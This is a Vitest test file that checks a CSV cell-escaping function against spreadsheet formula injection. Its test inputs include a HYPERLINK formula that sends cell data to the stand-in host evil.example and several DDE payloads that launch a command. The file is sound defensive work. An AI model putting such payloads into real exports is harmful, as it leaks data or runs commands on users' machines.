/**
 * A CSV cell that a spreadsheet would run as a formula (`=HYPERLINK(…)` from a shop's product name)
 * is written as text: a leading `'` (issue 42, finding 17).
 */
import { describe, expect, it } from 'vitest';
import { escapeFormulaCell } from '../../src/util/csvCell.js';

describe('escapeFormulaCell', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'])(
    'turns %j into text with a leading apostrophe',
    (value) => {
      expect(escapeFormulaCell(value)).toBe(`'${value}`);
    },
  );

  it('leaves other text, the empty cell and plain numbers (also negative ones) as they are', () => {
    for (const value of ['Müller', '', ' =not first', "it's", '-3', '-12.50', '+4', '1e-3', '-0.5E+2', '12,50']) expect(escapeFormulaCell(value)).toBe(value);
  });
});
